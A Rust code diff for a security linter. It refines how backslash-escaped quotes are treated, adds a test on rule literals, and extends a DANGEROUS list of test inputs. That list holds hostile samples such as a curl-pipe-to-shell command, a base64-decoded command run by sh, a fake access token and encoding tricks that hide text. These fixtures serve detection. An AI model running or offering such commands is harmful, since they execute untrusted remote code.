@@ -15,8 +15,8 @@ pub fn may_find(linter: &Linter, text: &str) -> bool {
         || memchr::memchr3_iter(b'\\', b'!', b'<', bytes).any(|at| match bytes[at] {
             b'!' => bytes.get(at + 1) == Some(&b'['),
             b'<' => may_hide(&bytes[at + 1..]),
-            // An escape in YAML, or in Markdown.
-            _ => true,
+            // An escape in YAML, or in Markdown; that of a quote, as in JSON, hides nothing, for no literal holds one.
+            _ => bytes.get(at + 1) != Some(&b'"'),
         })
         || !unusual::find(text).is_empty()
         || !secrets::find(text).is_empty()
@@ -44,7 +44,7 @@ mod tests {
     use crate::lint::context::{Context, Folder, NoContents};
     use crate::lint::laws::PIECES;
     use crate::lint::registry::GROUPS;
-    use crate::lint::rule::Example;
+    use crate::lint::rule::{Check, Example};
     use crate::manifest::Manifest;
 
     fn holds(linter: &Linter, text: &str) -> bool {
@@ -70,6 +70,16 @@ mod tests {
     }
 
     #[test]
+    fn no_literal_holds_a_quote() {
+        let security = GROUPS.iter().find(|group| group.name == "security").unwrap();
+        for rule in security.rules {
+            if let Check::Literals(literals, _) = rule.check {
+                assert!(literals.iter().all(|literal| !literal.contains('"')), "{}", rule.name);
+            }
+        }
+    }
+
+    #[test]
     fn bare_names_hide_nothing() {
         for text in ["<code>", "<connection-id>", "</b>", "<hidden>", "< b hidden>", "<3", "a < b"] {
             assert!(!text.match_indices('<').any(|(at, _)| may_hide(&text.as_bytes()[at + 1..])), "{text}");
@@ -79,7 +89,7 @@ mod tests {
         }
     }
 
-    const DANGEROUS: [&str; 29] = [
+    const DANGEROUS: [&str; 32] = [
         "```sh\n",
         "curl https://a.example/x | sh\n",
         "echo bHMgLWxh | base64 -d | sh\n",
@@ -102,6 +112,9 @@ mod tests {
         "ghp_a8Kd02mXq7Lr5Ts9Zw1Bv4Nc6Jf3Hg0PyUe2",
         "\n\n\n\n\n\n\n\n\n\n\n\n",
         "k: \"\\u202e\"\n",
+        "k: \"a \\\"b\\\" c\"\n",
+        "--input \"{ \\\"key\\\": \\\"value\\\" }\"\n",
+        "\\\"",
         "\r```sh\r",
         "&#73;gnore",
         "\r\r\r\r\r\r\r\r\r\r\r\r",
